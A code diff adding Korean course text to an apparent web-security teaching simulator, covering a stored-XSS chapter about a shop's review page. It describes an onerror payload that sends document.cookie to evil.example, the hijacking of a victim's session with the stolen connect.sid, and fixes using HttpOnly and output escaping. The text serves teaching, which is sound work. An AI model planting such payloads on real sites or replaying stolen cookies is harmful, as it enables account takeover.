@@ -11,6 +11,7 @@ export const courseKo: CourseMessages = {
     stateless: '쿠키 없는 HTTP',
     secure: 'Secure: https로만 가는 쿠키',
     kinds: '세션이라 불리는 세 가지',
+    xss: '손으로 해 보는 XSS',
   },
   steps: {
     'cookie-store': {
@@ -100,6 +101,30 @@ export const courseKo: CourseMessages = {
     'kinds-idle': {
       title: '오래 쉬면 로그인 세션이 끝납니다',
       body: '이제 쇼핑몰이 쿠키에 Max-Age 30분을 주고, 응답할 때마다 다시 늘립니다. 미나가 다시 로그인합니다. 탭을 열어 둔 채 자리를 비웠다가 31분 뒤에 돌아옵니다. 브라우저 세션은 끝나지 않았지만 로그인 세션은 끝났습니다. 요청 없이 30분이 지나면 끝나는 것, 이것이 <idle>유휴 타임아웃</idle>입니다. 쿠키는 쿠키 저장소에서, 세션은 세션 저장소에서 만료되었으니 마이페이지는 401로 답합니다.',
+    },
+    'xss-reviews': {
+      title: '방문자가 쓴 글을 보여 주는 페이지',
+      body: '쇼핑몰에 후기 기능이 생겼습니다. 누구나 후기를 쓸 수 있고, 후기 페이지에 모두 나옵니다. Firefox의 방문자가 후기(“Keeps my tea hot for hours!”)를 쓰면서 끝부분에 굵게 하는 마크업을 붙이자, 정말 굵게 나옵니다. 쇼핑몰이 방문자가 입력한 내용을 HTML에 그대로 써 넣기 때문에, 방문자의 마크업이 페이지의 일부가 됩니다. 미나는 Chrome에서 로그인해 있습니다. 이 장의 쇼핑몰은 세션 쿠키에 HttpOnly를 붙이지 않습니다.',
+    },
+    'xss-payload': {
+      title: '코드인 후기',
+      body: "이번에는 방문자가 후기가 아닌 후기를 씁니다. 주소(x)가 없는 이미지에 onerror 속성을 단 것입니다. 이미지를 불러오지 못하면 브라우저는 onerror의 코드를 실행합니다. fetch('https://evil.example/?c='+document.cookie)는 document.cookie로 보이는 것을 전부 evil.example로 보냅니다. 쇼핑몰은 이것도 여느 후기처럼 저장합니다. 방문자 자신의 브라우저가 먼저 이 페이지를 보여 주므로, evil.example에는 벌써 요청이 하나 와 있습니다. 방문자 자신의 쿠키라서 쓸모는 없습니다. 여기서는 어떤 코드도 실행되지 않습니다. 시뮬레이터가 마크업을 읽고 브라우저라면 무엇을 할지 따져 볼 뿐입니다.",
+    },
+    'xss-victim': {
+      title: '미나가 후기를 엽니다',
+      body: '미나가 후기 페이지를 엽니다. 저장된 마크업은 쇼핑몰 페이지의 일부로 도착하므로, 그 스크립트는 쇼핑몰의 스크립트로 실행됩니다. HttpOnly가 없으니 document.cookie에 미나의 세션 <cookie>쿠키</cookie>가 보이고, 미나의 브라우저가 그것을 evil.example로 보냅니다. 미나 눈에 보이는 건 깨진 이미지 하나뿐입니다. 이것이 저장형 <xss>XSS</xss>입니다.',
+    },
+    'xss-hijack': {
+      title: '도둑이 미나가 됩니다',
+      body: '도둑이 evil.example의 기록에서 connect.sid를 가져와 Firefox의 쿠키에 넣고 마이페이지를 엽니다. 200, 미나의 페이지, user_id 152입니다. 서버가 보는 건 유효한 세션 ID뿐입니다. 훔친 쿠키는 로그인과 다를 바 없습니다. 비밀번호를 몰라도 되는 <hijack>세션 하이재킹</hijack>입니다.',
+    },
+    'xss-httponly': {
+      title: 'HttpOnly는 도난을 막습니다',
+      body: '세션 쿠키에 <httponly>HttpOnly</httponly>를 다시 붙입니다(express-session의 cookie.httpOnly, 기본값은 켜짐). 세션은 처음 만들어질 때의 쿠키 설정을 그대로 유지하므로, 미나가 다시 로그인해서 새 쿠키를 받습니다. 미나가 후기를 엽니다. 스크립트는 여전히 실행되고 evil.example도 여전히 부르지만, document.cookie에는 더 이상 connect.sid가 없습니다. 도난은 막았지만 주입은 막지 못했습니다. 스크립트는 여전히 미나의 페이지에서 실행됩니다.',
+    },
+    'xss-escape': {
+      title: '이스케이프는 주입을 막습니다',
+      body: '이제 쇼핑몰이 방문자가 쓴 글을 페이지에 넣기 전에 이스케이프합니다(escape-html은 꺾쇠를 &lt;로 바꿉니다). 미나가 후기를 엽니다. 페이로드는 입력된 그대로 글자로 보이고, 아무것도 실행되지 않으며, evil.example에는 아무것도 오지 않습니다. 출력 이스케이프는 원인을 고치고, HttpOnly는 어느 한 곳을 놓쳤을 때 피해를 줄입니다. 실제 쇼핑몰은 둘 다 합니다.',
     },
   },
   cookieStore: {
@@ -201,6 +226,52 @@ export const courseKo: CourseMessages = {
     newBrowser: '브라우저 시작',
     empty: '이 장에서는 아직 요청이 없습니다.',
     note: '이 장에서 오간 요청으로 그렸습니다. 눈금 하나가 한 순간이며 시간 비율은 맞추지 않았습니다. 단순화: 브라우저마다 연결을 하나로 그렸고(실제 브라우저는 사이트마다 여섯 개까지 엽니다), 서버가 Node의 keep-alive 타임아웃 5초 뒤에 닫습니다.',
+  },
+  xss: {
+    title: '후기: 보온 머그컵',
+    by: '{{name}} 씀',
+    guest: '방문자',
+    none: '아직 후기가 없습니다.',
+    form: '후기 쓰기',
+    post: '후기 올리기',
+    errors: { empty: '먼저 내용을 써 주세요.', 'too-long': '후기는 500자까지 쓸 수 있습니다.' },
+    brokenImage: '불러오지 못한 이미지',
+    tag: '<{{tag}}> (안의 글자만 보여 줌)',
+    reading: '실제 브라우저라면 이 후기로 무엇을 할까',
+    about: '여기서는 아무것도 실행되지 않습니다: 시뮬레이터가 후기를 읽는 방법',
+    readingNote:
+      '실행하지 않고 따져 본 결과입니다. 시뮬레이터는 마크업을 읽을 뿐입니다. 알아보는 것은 <script>, 이미지의 onerror(여기서는 어떤 이미지도 불러와지지 않음), <svg>·<body>·<iframe>의 onload, autofocus와 onfocus이고, 코드에서는 document.cookie, alert(), 그리고 따옴표 안 주소로 요청을 보내는 fetch(), 이미지의 src, location, sendBeacon입니다. 그 밖의 것은 짐작하지 않고 알아보지 못했다고 알립니다.',
+    trigger: {
+      script: '<script>는 페이지를 불러올 때 실행됩니다.',
+      'image-fails': '<{{tag}}>를 불러오지 못해서 {{attr}}가 실행됩니다.',
+      loads: '<{{tag}}>가 로드되어 {{attr}}가 실행됩니다.',
+      autofocus: 'autofocus로 <{{tag}}>에 포커스가 가서 {{attr}}가 실행됩니다.',
+    },
+    external: '{{src}}에서 코드를 불러옵니다. 시뮬레이터는 그 코드를 볼 수 없습니다.',
+    readsCookie: 'document.cookie를 읽습니다. 이 브라우저에서 그 값은:',
+    emptyCookie: '(비어 있음: 스크립트가 읽을 수 있는 쿠키가 없음)',
+    sends: '요청을 보내는 곳:',
+    alerts: '알림 창을 엽니다(여기서는 띄우지 않음).',
+    notUnderstood: '실행은 되지만 시뮬레이터가 알아보지 못하는 코드라서 더 보여 줄 것이 없습니다.',
+    waits:
+      '<{{tag}}>의 {{attr}}는 누군가 클릭하거나 마우스를 올려야 실행됩니다. 여기서는 실행하지 않습니다.',
+    escapedNote:
+      '쇼핑몰이 이스케이프했습니다. 마크업이 글자로 도착해서 아무것도 실행되지 않습니다.',
+    source: '페이지 소스: 서버가 HTML에 써 넣은 후기',
+    settings: {
+      escape: '후기를 페이지에 넣을 때 이스케이프(escape-html)',
+      code: '후기 페이지의 템플릿',
+    },
+    log: {
+      title: 'evil.example: 서버가 받은 요청',
+      note: '후기 페이지를 보여 준 브라우저들이 evil.example로 보낸 요청입니다. 다른 서버로 가는 요청이라 통신 회선(쇼핑몰과의 통신)에는 그려지지 않습니다.',
+      empty: '아직 받은 요청이 없습니다.',
+      from: '보낸 곳: {{browser}} · {{ip}}',
+      cookies: '주소에 담긴 쿠키:',
+      noCookies: '쿠키가 없습니다.',
+      use: '{{browser}}에서 {{name}} 쓰기',
+      useHint: '쿠키를 쓸 브라우저의 탭을 먼저 연 뒤 버튼을 누르세요.',
+    },
   },
   authz: {
     trace: {
